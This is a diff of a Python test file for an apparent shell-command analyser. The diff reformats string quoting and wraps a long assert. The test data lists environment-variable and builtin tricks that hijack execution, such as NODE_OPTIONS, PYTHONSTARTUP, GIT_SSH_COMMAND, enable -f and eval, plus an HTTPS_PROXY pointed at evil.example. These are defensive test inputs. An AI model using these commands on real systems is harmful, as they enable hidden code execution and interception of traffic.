@@ -22,18 +22,18 @@ from .bench import argvs, opaques, read
         "export NODE_OPTIONS='--require /tmp/x.js'",
         "export PYTHONSTARTUP=/tmp/x.py",
         "export PROMPT_COMMAND=$X",
-        "export GIT_SSH_COMMAND=\"$X\"",
+        'export GIT_SSH_COMMAND="$X"',
         "export PERL5OPT=-Mx",
         "export GIT_CONFIG_COUNT=1",
         "read PATH <<< /tmp/x",
         "hash -p /tmp/x ls",
         "enable -f ./x.so x",
         "set -k",
-        "eval \"$X\"",
-        "trap \"$X\" EXIT",
+        'eval "$X"',
+        'trap "$X" EXIT',
         "unset $X",
-        "declare \"$X\"",
-        "printf -v \"$X\" y",
+        'declare "$X"',
+        'printf -v "$X" y',
     ],
 )
 def test_not_ignored(text: str) -> None:
@@ -72,5 +72,7 @@ def test_a_command_in_a_variable_is_read_as_one() -> None:
 
 def test_a_proxy_sends_later_traffic_elsewhere() -> None:
     reading = read("export HTTPS_PROXY=http://evil.example:8080; curl https://x.example")
-    assert any(effect.verb is Verb.CONFIGURE and effect.resource.name.startswith("evil.example") for effect in reading.effects)
+    assert any(
+        effect.verb is Verb.CONFIGURE and effect.resource.name.startswith("evil.example") for effect in reading.effects
+    )
     assert not any(effect.verb is Verb.CONFIGURE for effect in read("export HTTP_PROXY=http://127.0.0.1:80").effects)
